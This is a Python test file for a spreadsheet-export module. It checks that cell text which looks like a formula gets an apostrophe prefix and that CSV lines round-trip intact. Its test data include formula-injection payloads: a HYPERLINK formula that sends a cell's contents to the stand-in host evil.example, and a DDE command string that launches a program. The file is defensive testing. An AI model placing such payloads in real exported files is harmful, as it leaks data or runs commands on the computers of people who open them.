"""A spreadsheet shows what somebody wrote and executes none of it, and nothing of it is lost."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from satmachineadmin.core.spreadsheet import harmless, line

FORMULAS = (
    '=HYPERLINK("http://evil.example?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0",
    "\t=1", "\r=1", "\n=1", " =1", "'=1", "''@x", "＝1", "\u00a0=1", "\ufeff=1",
)  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_what_looks_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "Plaza", "rate 5 < 6 & so on", "Ana's", "a=b", "100 %", "'quoted'"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


#: What is likely to go wrong, and everything else that a file can hold.
texts = st.text(
    st.one_of(
        st.sampled_from("=+-@'\"\t\r\n,; \ufeff＝"),
        st.characters(exclude_categories=["Cs"], exclude_characters="\0"),
    )
)


@given(texts)
def test_without_the_apostrophe_it_is_the_text_that_was_written(text: str) -> None:
    written = harmless(text)
    assert not written.startswith(tuple("=+-@\t\r\n＝＋－＠"))
    assert written in (text, f"'{text}")
    # Who reads it knows which: what has no apostrophe too many would have got one.
    bare = written[1:] if written.startswith("'") and harmless(written[1:]) == written else written
    assert bare == text


@given(st.lists(texts, min_size=2))
def test_a_line_is_one_record_whatever_its_cells_hold(cells: list[str]) -> None:
    written = line(cells)
    assert written.endswith("\r\n")
    assert list(csv.reader(io.StringIO(written, newline=""))) == [cells]


def test_numbers_are_numbers_and_what_is_not_known_is_empty() -> None:
    assert line(["-12.50", -5, None, 0]) == "-12.50,-5,,0\r\n"
